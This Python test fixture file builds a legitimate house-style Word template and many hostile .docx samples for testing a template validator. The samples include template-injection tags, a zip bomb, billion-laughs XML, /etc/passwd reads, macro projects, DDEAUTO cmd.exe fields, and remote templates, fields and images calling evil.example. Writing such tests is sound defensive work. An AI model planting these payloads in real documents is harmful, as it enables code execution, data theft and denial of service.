"""Word templates that somebody might supply: one in a house style, and many that are made to hurt."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from zipfile import ZIP_DEFLATED, ZipFile

import docx
from docx.enum.section import WD_ORIENT
from docx.shared import Cm, Pt, RGBColor

from finance_kit.documents.docx_save import package_bytes
from tests.documents.docx_sample import TEMPLATE

LETTERHEAD = "Union of Rural Credit – 12 Norodom Boulevard"
OWN_PAGE = "About the Union of Rural Credit"
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def png(width: int, height: int, points: bytes | None = None) -> bytes:
    """A picture of one colour; without ``points`` only its head says how large it is."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress((b"\x00" + (points or b"\x00\x00\x00") * width) * (height if points else 1))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def parts_of(content: bytes) -> dict[str, bytes]:
    with ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def stored(content: bytes) -> bytes:
    """The same file without compression, so that what is very regular is not refused for that."""
    made = io.BytesIO()
    with ZipFile(made, "w") as archive:
        for name, part in parts_of(content).items():
            archive.writestr(name, part)
    return made.getvalue()


def house_style() -> bytes:
    """The shipped template as staff restyle it: letterhead and logo, font and colour, margins, a page of theirs."""
    document = docx.Document(str(TEMPLATE))
    section = document.sections[0]
    section.orientation = WD_ORIENT.PORTRAIT
    section.left_margin, section.right_margin, section.top_margin = Cm(3), Cm(2.5), Cm(3.2)
    for header in (section.header, section.first_page_header):
        paragraph = header.paragraphs[0].insert_paragraph_before("")
        paragraph.add_run().add_picture(io.BytesIO(png(120, 40, b"\x7a\x1f\x2e")), width=Cm(2.4))
        paragraph.add_run(f"   {LETTERHEAD}").bold = True
    for name in ("Heading 1", "Heading 2", "Title"):
        style = document.styles[name]
        style.font.name = "Georgia"
        style.font.color.rgb = RGBColor(0x7A, 0x1F, 0x2E)
    document.styles["Title"].font.size = Pt(26)
    place = next(each for each in document.paragraphs if each.text == "[[REQUEST]]")
    title = place.insert_paragraph_before(OWN_PAGE, style="Heading 1")
    title.paragraph_format.page_break_before = True
    place.insert_paragraph_before(
        "Founded in 2009 by eleven cooperatives. This page is ours on {{ date }}.", "Body Text"
    )
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def changed(part: str, change: Callable[[str], str], more: Mapping[str, bytes] | None = None) -> bytes:
    """The shipped template with one part changed, and further parts."""
    parts = parts_of(TEMPLATE.read_bytes())
    parts[part] = change(parts[part].decode()).encode()
    return package_bytes({**parts, **(more or {})}.items())


def with_tag(tag: str) -> bytes:
    """The shipped template with another tag on its cover."""
    return changed(DOCUMENT, lambda xml: xml.replace("{{ cover_text }}", tag))


def with_body(xml: str) -> bytes:
    """The shipped template with something more at the beginning of its text."""
    return changed(DOCUMENT, lambda text: text.replace("<w:body>", f"<w:body>{xml}"))


def with_relation(kind: str, target: str, *, outside: bool = True, place: str = RELATIONS) -> bytes:
    """The shipped template with one more relation."""
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    if place == RELATIONS:
        return changed(place, lambda xml: xml.replace("</Relationships>", line))
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return package_bytes({**parts_of(TEMPLATE.read_bytes()), place: (empty + line).encode()}.items())


def field(*pieces: str) -> str:
    """A paragraph with a field whose code is cut into these runs."""
    codes = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{codes}{end}</w:p>"


def typed(kind: str) -> bytes:
    """The shipped template that says that its main part is of this kind."""
    return changed("[Content_Types].xml", lambda xml: xml.replace("wordprocessingml.document.main+xml", kind))


def _bomb() -> bytes:
    made = io.BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for name, content in parts_of(TEMPLATE.read_bytes()).items():
            archive.writestr(name, content)
        archive.writestr("word/media/image1.xml", b"0" * 60_000_000)
    return made.getvalue()


def _utf16(declaration: str) -> bytes:
    xml = f'<?xml version="1.0" encoding="UTF-16"?>{declaration}<w:hdr {W}><w:p/></w:hdr>'
    return package_bytes({**parts_of(TEMPLATE.read_bytes()), "word/header2.xml": xml.encode("utf-16")}.items())


def _laughs() -> bytes:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    dtd = f'<!DOCTYPE w:hdr [<!ENTITY a0 "ha">{lines}]>'
    return changed(
        "word/header2.xml", lambda xml: xml.replace("<w:hdr", dtd + "<w:hdr").replace("<w:p/>", "<w:p>&a9;</w:p>")
    )


def _removed_by_a_tag() -> bytes:
    """Harmless in pieces: the field is a DATE until a tag takes away the paragraph that says so."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    code = '<w:r><w:instrText>INCLUDETEXT "http://evil.example/x"</w:instrText></w:r>'
    gone = "<w:p><w:r><w:instrText>DATE </w:instrText></w:r><w:r><w:t>{%p if cover_text %}</w:t></w:r></w:p>"
    over = "<w:p><w:r><w:t>{%p endif %}</w:t></w:r></w:p>"
    return with_body(f"<w:p>{begin}</w:p>{gone}<w:p>{code}{end}</w:p>{over}")


def hostile() -> dict[str, tuple[bytes, str, str]]:
    """What it is -> its content, the code that refuses it, and a word of its sentence."""
    macro = "application/vnd.ms-office.vbaProject"
    link = f'<w:fldSimple {W} w:instr="INCLUDEPICTURE &quot;http://evil.example/a.png&quot;"/>'
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    picture = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//evil.example/a"/>'
    vml = f"<w:p><w:r><w:pict>{picture}</w:pict></w:r></w:p>"
    alias = '<!DOCTYPE x SYSTEM "file:/etc/passwd">'
    return {
        "classes of the program": (with_tag("{{ ''.__class__.__mro__ }}"), "template_tag_forbidden", "__class__"),
        "an endless loop": (
            with_tag("{% for i in range(10**9) %}x{% endfor %}"), "template_tag_forbidden", "range(10**9)"),
        "an endless text": (with_tag("{{ 'a' * 10**9 }}"), "template_tag_forbidden", "10**9"),
        "an unknown tag": (with_tag("{{ chairperson }}"), "template_tag_unknown", "chairperson"),
        "an unknown tag cut into runs": (
            with_tag("{{ chair</w:t></w:r><w:r><w:t>person }}"), "template_tag_unknown", "chairperson"),
        "a torn tag cut into runs": (
            with_tag("{{ cover_</w:t></w:r><w:r><w:t>text }"), "template_tag_broken", "{{ cover_"),
        "a bomb": (_bomb(), "template_unpacks_too_large", "too large"),
        "2,000 parts": (
            package_bytes({f"word/part{n}.xml": b"<x/>" for n in range(2_000)}.items()),
            "template_too_many_parts", "2000"),
        "201 parts": (
            package_bytes({f"word/part{n}.xml": b"<x/>" for n in range(201)}.items()),
            "template_too_many_parts", "201"),
        "a part twice": (
            package_bytes([*parts_of(TEMPLATE.read_bytes()).items(), ("WORD/document.xml", b"<x/>")]),
            "template_not_word", "not a Word file"),
        "billion laughs": (_laughs(), "template_dtd", "word/header2.xml"),
        "a document type in UTF-16": (_utf16(alias), "template_dtd", "word/header2.xml"),
        "XML too deep": (with_body("<w:p>" * 300 + "</w:p>" * 300), "template_xml_broken", DOCUMENT),
        "XML cut short": (changed(DOCUMENT, lambda xml: xml[:500]), "template_xml_broken", DOCUMENT),
        "a document with macros": (
            typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "template_macros", "macros"),
        "a macro project": (
            changed("[Content_Types].xml", lambda xml: xml.replace(
                "<Override", f'<Default Extension="bin" ContentType="{macro}"/><Override', 1),
                {"word/vbaProject.bin": old}), "template_macros", "bin"),
        "an object under another name": (
            changed(DOCUMENT, str, {"word/media/image9.png": old}), "template_macros", "image9.png"),
        "a .dotx": (typed("wordprocessingml.template.main+xml"), "template_not_word", "Word Document"),
        "a remote template": (
            with_relation("attachedTemplate", "http://evil.example/t.dotm", place="word/_rels/settings.xml.rels"),
            "template_outside_link", "Normal"),
        "a remote picture": (
            with_relation("image", "http://evil.example/a.png"), "template_outside_link", "evil.example"),
        "a remote picture of the old kind": (with_body(vml), "template_outside_link", "evil.example"),
        "a share": (with_relation("image", "\\\\evil.example\\a.png"), "template_outside_link", "evil.example"),
        "a link to a file": (with_relation("hyperlink", "file:/etc/passwd"), "template_outside_link", "passwd"),
        "an outer part without saying so": (
            with_relation("image", "http://evil.example/a.png", outside=False), "template_outside_link", "evil"),
        "an object": (with_relation("oleObject", "a.bin", outside=False), "template_foreign_part", "oleObject"),
        "a page of another file": (
            with_relation("aFChunk", "a.html", outside=False), "template_foreign_part", "aFChunk"),
        "the element for it": (with_body('<w:altChunk w:id="rId1"/>'), "template_foreign_part", "altChunk"),
        "a sub-document": (with_body("<w:subDoc/>"), "template_foreign_part", "subDoc"),
        "a mail merge": (
            changed("word/settings.xml", lambda xml: xml.replace("<w:zoom", "<w:mailMerge/><w:zoom")),
            "template_foreign_part", "mailMerge"),
        "a field that includes": (
            with_body(field("INCLUDE", 'TEXT "/etc/passwd"')), "template_field", "INCLUDETEXT"),
        "a field that starts a program": (with_body(field(" DDEAUTO c:\\\\cmd.exe")), "template_field", "DDEAUTO"),
        "a field without runs": (with_body(f"<w:p>{link}</w:p>"), "template_field", "INCLUDEPICTURE"),
        "a field within a field": (
            with_body(field("DATE ").replace("DATE </w:instrText></w:r>", "DATE </w:instrText></w:r>" + field(
                "IMPORT x")[5:-6])), "template_field", "IMPORT"),
        "a field link to a share": (
            with_body(field('HYPERLINK \\o "x" "file://evil.example/a"')), "template_outside_link", "evil.example"),
        "a field put together by a tag": (_removed_by_a_tag(), "template_field", "INCLUDETEXT"),
        "a field with a value": (with_body(field("PAGE {{ cluster_name }}")), "template_field", "cluster_name"),
        "a picture that runs": (
            changed(DOCUMENT, str, {"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"/>'}),
            "template_picture", "a.svg"),
        "a picture without end": (
            changed(DOCUMENT, str, {"word/media/a.png": png(60_000, 60_000)}), "template_picture", "a.png"),
        "a metafile": (
            changed(DOCUMENT, str, {"word/media/a.emf": b"\x01\x00\x00\x00" + b"\x00" * 99}),
            "template_picture", "a.emf"),
        "an old Word file": (old, "template_old_format", "password"),
        "no Word file": (b"hello", "template_not_word", "not a Word file"),
        "an archive": (package_bytes([("a.txt", b"b")]), "template_not_word", "not a Word file"),
        "six megabytes": (b"PK\x03\x04" + b"\x00" * 6_000_000, "template_too_large", "5 MB"),
    }  # fmt: skip
